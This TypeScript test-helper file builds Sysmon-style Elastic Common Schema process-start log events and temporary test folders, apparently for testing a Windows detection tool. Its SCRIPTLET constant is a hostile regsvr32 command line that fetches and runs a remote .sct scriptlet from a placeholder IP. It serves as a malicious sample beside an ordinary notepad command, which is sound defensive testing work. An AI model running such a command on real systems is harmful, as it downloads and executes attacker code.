import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

/** A process start in Elastic Common Schema, as Winlogbeat and Elastic's agent write it. */
export function processStart(commandLine: string, parts: Record<string, unknown> = {}): string {
  const program = /^"?([^"\s]+)/.exec(commandLine)?.[1] ?? "";
  const executable = program.includes("\\") ? program : `C:\\Windows\\System32\\${program}`;
  return JSON.stringify({
    "@timestamp": "2024-05-02T09:14:55.120Z",
    event: { category: ["process"], type: ["start"], kind: "event", code: "1", provider: "Microsoft-Windows-Sysmon" },
    host: { name: "ACCT-07", os: { family: "windows", type: "windows" } },
    user: { name: "m.weber", domain: "CORP" },
    process: {
      command_line: commandLine,
      executable,
      name: executable.split("\\").at(-1),
      pid: 4711,
      entity_id: `{${commandLine.length}}`,
      parent: { executable: "C:\\Windows\\explorer.exe", pid: 2044 },
    },
    ...parts,
  });
}

export const SCRIPTLET = "regsvr32.exe /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll";
export const ORDINARY = "notepad.exe C:\\Users\\m.weber\\notes.txt";

/** A folder of its own for a test; call `remove` at its end. */
export function folder(): { readonly path: string; write(name: string, text: string): string; remove(): void } {
  const path = mkdtempSync(join(tmpdir(), "whatran-"));
  return {
    path,
    write(name, text) {
      const file = join(path, name);
      writeFileSync(file, text);
      return file;
    },
    remove: () => rmSync(path, { recursive: true, force: true }),
  };
}
